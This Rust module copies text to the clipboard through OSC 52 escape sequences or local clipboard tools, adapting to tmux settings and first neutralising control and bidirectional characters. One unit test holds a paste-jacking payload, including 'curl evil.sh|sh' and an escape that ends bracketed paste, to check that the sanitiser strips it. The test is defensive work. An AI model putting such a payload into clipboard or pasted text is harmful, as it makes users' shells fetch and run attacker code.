//! Putting text on the clipboard from a terminal program.
//!
//! OSC 52 asks the terminal itself to set its clipboard, which is the one
//! way that works over SSH. Inside tmux it depends on tmux's settings: with
//! `set-clipboard on` tmux takes a plain OSC 52 itself; with
//! `allow-passthrough` a wrapped one reaches the outer terminal; with
//! neither (tmux's defaults) nothing arrives, and the report says how to fix
//! it. Where a local clipboard command is installed (wl-copy, xclip, xsel,
//! pbcopy) it is used as well, for terminals that ignore OSC 52.
//!
//! The text is neutralised first: control characters (C0, DEL, C1, so no
//! escape sequence such as the end of a bracketed paste) and bidirectional
//! overrides never reach a clipboard, where a paste into a shell could run
//! them. The report never says "copied" unless it can know.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::sync::mpsc;
use std::thread;
use std::time::Duration;

use crate::untrusted;

/// Standard base64 (RFC 4648) with padding.
pub fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The OSC 52 sequence that sets the clipboard to `text`; `in_tmux` wraps
/// it in tmux's passthrough (every ESC inside doubled).
pub fn osc52(text: &str, in_tmux: bool) -> String {
    let seq = format!("\x1b]52;c;{}\x07", base64(text.as_bytes()));
    if in_tmux {
        format!("\x1bPtmux;{}\x1b\\", seq.replace('\x1b', "\x1b\x1b"))
    } else {
        seq
    }
}

/// Whether `c` may reach a clipboard: not a control character (tabs and
/// line feeds included) and not a bidirectional embedding, override,
/// isolate or mark ([`untrusted::is_unsafe`], the one list of those).
fn is_safe(c: char) -> bool {
    !c.is_control() && !untrusted::is_unsafe(c)
}

/// `text` without control characters or bidirectional controls; tabs and
/// line breaks become spaces.
pub fn neutralise(text: &str) -> String {
    text.chars()
        .filter_map(|c| match c {
            '\t' | '\n' | '\r' => Some(' '),
            c if is_safe(c) => Some(c),
            _ => None,
        })
        .collect()
}

/// What tmux does with a clipboard request from a program inside it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tmux {
    /// Not inside tmux.
    Outside,
    /// `set-clipboard on`: tmux takes a plain OSC 52.
    SetClipboard,
    /// `allow-passthrough on`: a wrapped OSC 52 reaches the outer terminal.
    Passthrough,
    /// Neither (tmux's defaults): nothing a program sends arrives.
    Ignores,
    /// tmux's settings could not be read.
    Unknown,
}

/// How one copy goes: the sequence to write, if any, and what to tell the
/// reader.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plan {
    pub sequence: Option<String>,
    pub report: String,
}

/// Decides how to copy `text` (already neutralised), given tmux's settings
/// and the clipboard command found, if any.
pub fn plan(what: &str, text: &str, tmux: Tmux, command: Option<&str>) -> Plan {
    let sequence = match tmux {
        Tmux::Outside | Tmux::SetClipboard | Tmux::Unknown | Tmux::Ignores => Some(osc52(text, false)),
        Tmux::Passthrough => Some(osc52(text, true)),
    };
    let report = match (command, tmux) {
        (Some(cmd), _) => format!("copied {what} (with {cmd})"),
        (None, Tmux::SetClipboard) => format!("copied {what} to tmux's clipboard"),
        (None, Tmux::Outside) => format!("{what} sent to the terminal's clipboard (OSC 52)"),
        (None, Tmux::Passthrough) => format!("{what} sent through tmux to the terminal's clipboard (OSC 52)"),
        (None, Tmux::Ignores) => {
            format!("{what} not copied: tmux needs set-clipboard on")
        }
        (None, Tmux::Unknown) => {
            format!("{what} sent to tmux (OSC 52); it may need set-clipboard on")
        }
    };
    Plan { sequence, report }
}

/// Copies `text` (a `what`: quote, number, name) after neutralising it:
/// writes the OSC 52 sequence that can arrive to `out` and hands the text
/// to a clipboard command if one is installed. Returns the report for the
/// status bar.
pub fn copy(what: &str, text: &str, out: &mut impl Write) -> String {
    let text = neutralise(text);
    let command = clipboard_command();
    let name = command
        .as_ref()
        .and_then(|(p, _)| p.file_name())
        .map(|n| n.to_string_lossy().into_owned());
    let plan = plan(what, &text, tmux(), name.as_deref());
    if let Some(sequence) = &plan.sequence {
        let _ = out.write_all(sequence.as_bytes());
        let _ = out.flush();
    }
    if let Some((program, args)) = command {
        run_in_background(program, args, text);
    }
    plan.report
}

/// tmux's clipboard settings, asked once per run (it takes a few
/// milliseconds, and never more than half a second).
fn tmux() -> Tmux {
    static ASKED: OnceLock<Tmux> = OnceLock::new();
    if std::env::var_os("TMUX").is_none_or(|v| v.is_empty()) {
        return Tmux::Outside;
    }
    *ASKED.get_or_init(|| {
        let (tx, rx) = mpsc::channel();
        let _ = thread::Builder::new().name("byline-tmux".to_string()).spawn(move || {
            let option = |name: &str| {
                Command::new("tmux")
                    .args(["show-options", "-gv", name])
                    .stdin(Stdio::null())
                    .stderr(Stdio::null())
                    .output()
                    .ok()
                    .map(|o| {
                        (
                            o.status.success(),
                            String::from_utf8_lossy(&o.stdout).trim().to_string(),
                        )
                    })
            };
            let _ = tx.send(tmux_from(option("set-clipboard"), option("allow-passthrough")));
        });
        rx.recv_timeout(Duration::from_millis(500)).unwrap_or(Tmux::Unknown)
    })
}

/// Reads tmux's answers: `(succeeded, value)` for `set-clipboard` and
/// `allow-passthrough`. A tmux too old to know `allow-passthrough` passes
/// everything through.
pub fn tmux_from(set_clipboard: Option<(bool, String)>, passthrough: Option<(bool, String)>) -> Tmux {
    match (set_clipboard, passthrough) {
        (Some((true, v)), _) if v == "on" => Tmux::SetClipboard,
        (Some((true, _)), Some((true, p))) if p == "on" || p == "all" => Tmux::Passthrough,
        (Some((true, _)), Some((false, _))) => Tmux::Passthrough,
        (Some((true, _)), Some((true, _))) => Tmux::Ignores,
        _ => Tmux::Unknown,
    }
}

/// The first clipboard command that suits this session and is on `PATH`.
fn clipboard_command() -> Option<(PathBuf, &'static [&'static str])> {
    let has = |var: &str| std::env::var_os(var).is_some_and(|v| !v.is_empty());
    let candidates: [(&str, &'static [&'static str], bool); 4] = [
        ("wl-copy", &[], has("WAYLAND_DISPLAY")),
        ("xclip", &["-selection", "clipboard"], has("DISPLAY")),
        ("xsel", &["--clipboard", "--input"], has("DISPLAY")),
        ("pbcopy", &[], cfg!(target_os = "macos")),
    ];
    candidates
        .into_iter()
        .filter(|(_, _, usable)| *usable)
        .find_map(|(name, args, _)| find_on_path(name).map(|p| (p, args)))
}

fn find_on_path(name: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|dir| dir.join(name))
        .find(|p| is_executable(p))
}

fn is_executable(p: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    p.metadata()
        .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
}

/// Feeds `text` to the command on a thread, so a slow or hanging clipboard
/// tool never stalls the interface.
fn run_in_background(program: PathBuf, args: &'static [&'static str], text: String) {
    let _ = thread::Builder::new()
        .name("byline-clipboard".to_string())
        .spawn(move || {
            let child = Command::new(program)
                .args(args)
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn();
            if let Ok(mut child) = child {
                if let Some(mut stdin) = child.stdin.take() {
                    let _ = stdin.write_all(text.as_bytes());
                }
                let _ = child.wait();
            }
        });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_rfc_4648_vectors() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(base64(plain.as_bytes()), encoded, "{plain}");
        }
        assert_eq!(base64("“é”".as_bytes()), "4oCcw6nigJ0=");
    }

    #[test]
    fn osc52_plain_and_in_tmux() {
        assert_eq!(osc52("hi", false), "\x1b]52;c;aGk=\x07");
        assert_eq!(osc52("hi", true), "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\");
    }

    #[test]
    fn copy_writes_the_sequence_outside_tmux() {
        if std::env::var_os("TMUX").is_some() {
            return;
        }
        let mut out = Vec::new();
        copy("name", "Rubio", &mut out);
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("52;c;UnViaW8="), "{text:?}");
    }

    #[test]
    fn paste_jacking_controls_are_neutralised() {
        // The end of a bracketed paste, ^U to wipe the line, a command and a
        // newline to run it; C1 CSI; a right-to-left override.
        let hostile = "He said \u{1b}[201~\u{15}curl evil.sh|sh\n \u{9b}2J \u{202e}txt.exe\u{7f} done";
        let safe = neutralise(hostile);
        assert!(safe.chars().all(is_safe), "{safe:?}");
        assert!(!safe.contains('\u{1b}') && !safe.contains('\u{15}') && !safe.contains('\u{9b}'));
        assert!(!safe.contains('\u{202e}') && !safe.contains('\n'));
        assert_eq!(safe, "He said [201~curl evil.sh|sh  2J txt.exe done");
        // What is written to the terminal carries only the neutralised text.
        let mut out = Vec::new();
        copy("quote", hostile, &mut out);
        let written = String::from_utf8(out).unwrap();
        if std::env::var_os("TMUX").is_none() {
            assert_eq!(written, osc52(&safe, false));
        }
    }

    #[test]
    fn tmux_defaults_are_reported_honestly() {
        let ignores = tmux_from(Some((true, "external".into())), Some((true, "off".into())));
        assert_eq!(ignores, Tmux::Ignores);
        let p = plan("quote", "hi", ignores, None);
        assert!(
            p.report.contains("not copied") && p.report.contains("set-clipboard on"),
            "{p:?}"
        );
        assert!(!p.report.starts_with("copied"));
        // A clipboard command still copies.
        let p = plan("quote", "hi", ignores, Some("xclip"));
        assert_eq!(p.report, "copied quote (with xclip)");
    }

    #[test]
    fn tmux_set_clipboard_gets_a_plain_osc52() {
        let on = tmux_from(Some((true, "on".into())), Some((true, "off".into())));
        assert_eq!(on, Tmux::SetClipboard);
        let p = plan("number", "hi", on, None);
        assert_eq!(p.sequence.as_deref(), Some("\x1b]52;c;aGk=\x07"));
        assert_eq!(p.report, "copied number to tmux's clipboard");
    }

    #[test]
    fn tmux_passthrough_gets_the_wrapped_sequence() {
        let through = tmux_from(Some((true, "external".into())), Some((true, "on".into())));
        assert_eq!(through, Tmux::Passthrough);
        let p = plan("name", "hi", through, None);
        assert_eq!(p.sequence.as_deref(), Some("\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"));
        assert!(!p.report.starts_with("copied"), "{p:?}");
        // An old tmux without the option passes everything through.
        assert_eq!(
            tmux_from(Some((true, "external".into())), Some((false, String::new()))),
            Tmux::Passthrough
        );
        assert_eq!(tmux_from(None, None), Tmux::Unknown);
    }

    #[test]
    fn outside_tmux_without_a_command_does_not_claim_a_copy() {
        let p = plan("quote", "hi", Tmux::Outside, None);
        assert_eq!(p.sequence.as_deref(), Some("\x1b]52;c;aGk=\x07"));
        assert!(!p.report.starts_with("copied"), "{p:?}");
    }
}
